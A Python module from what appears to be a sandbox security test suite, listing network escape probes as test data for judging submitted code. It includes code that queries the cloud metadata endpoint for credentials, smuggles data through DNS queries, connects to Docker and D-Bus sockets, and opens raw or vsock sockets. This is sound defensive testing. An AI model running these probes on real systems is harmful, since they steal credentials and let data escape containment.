"""Attacks that speak to other processes: another machine, this one, or another submission."""

from functools import partial

from tests.security.attack import HONEST, Attack, in_build, module

_row = partial(module, "network")

NETWORK: tuple[Attack, ...] = (
    _row(
        "connect",
        "Carries the data off to a listening process, or fetches weights from there.",
        in_build(
            """
            import socket
            for address in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
                try:
                    with socket.create_connection((address, @PORT@), 0.2) as peer:
                        peer.sendall(b"@MARK@")
                        print("REACHED", address, flush=True)
                except OSError:
                    pass
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                try:
                    sender.sendto(b"@MARK@", ("127.0.0.1", @PORT@))
                except OSError:
                    pass
            """
        ),
        {HONEST},
    ),
    _row(
        "metadata",
        "Asks the cloud's metadata service for the machine's credentials.",
        in_build(
            """
            import urllib.request
            for url in (
                "http://169.254.169.254/latest/meta-data/",
                "http://[fd00:ec2::254]/latest/meta-data/",
            ):
                try:
                    print("REACHED", urllib.request.urlopen(url, timeout=0.3).read(100), flush=True)
                except OSError:
                    pass
            """
        ),
        {HONEST},
    ),
    _row(
        "name_service",
        "Smuggles data out in the names that it asks a name server for.",
        in_build(
            """
            import socket
            query = b"\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3com\\0\\0\\1\\0\\1"
            for server in ("1.1.1.1", "8.8.8.8", "127.0.0.53"):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
                    asker.settimeout(0.1)
                    try:
                        asker.sendto(query, (server, 53))
                        print("REACHED", asker.recv(100), flush=True)
                    except OSError:
                        pass
            """
        ),
        {HONEST},
    ),
    _row(
        "listen",
        "Waits on the ports of this machine for what others send.",
        in_build(
            """
            import socket
            for address in ("0.0.0.0", "127.0.0.1"):
                try:
                    with socket.socket() as door:
                        door.bind((address, @PORT@))
                        door.listen()
                        door.settimeout(0.3)
                        print("REACHED", door.accept(), flush=True)
                except OSError:
                    pass
            """
        ),
        {HONEST},
    ),
    _row(
        "sockets_of_the_machine",
        "Speaks to the services of the machine through their sockets.",
        in_build(
            """
            import glob, socket
            paths = ["\\0@MARK@", "@SOCKET@", "/run/docker.sock", "/run/dbus/system_bus_socket"]
            paths += ["/run/systemd/private", "/tmp/.X11-unix/X0", *glob.glob("/run/**/*.sock")]
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                for path in paths:
                    with socket.socket(socket.AF_UNIX, kind) as door:
                        try:
                            door.connect(path)
                            door.send(b"@MARK@")
                            print("REACHED", path, flush=True)
                        except OSError:
                            pass
            """
        ),
        {HONEST},
    ),
    _row(
        "other_families",
        "Other kinds of sockets, which a filter may have forgotten.",
        in_build(
            """
            import socket
            try:
                with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as host:
                    host.settimeout(0.2)
                    host.connect((2, 22))
                    print("REACHED the host", flush=True)
            except OSError:
                pass
            for kind, protocol in ((socket.SOCK_RAW, socket.IPPROTO_ICMP),
                                   (socket.SOCK_DGRAM, socket.IPPROTO_ICMP)):
                try:
                    with socket.socket(socket.AF_INET, kind, protocol) as raw:
                        raw.settimeout(0.2)
                        raw.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("1.1.1.1", 0))
                        print("REACHED", raw.recv(100), flush=True)
                except OSError:
                    pass
            """
        ),
        {HONEST},
    ),
)
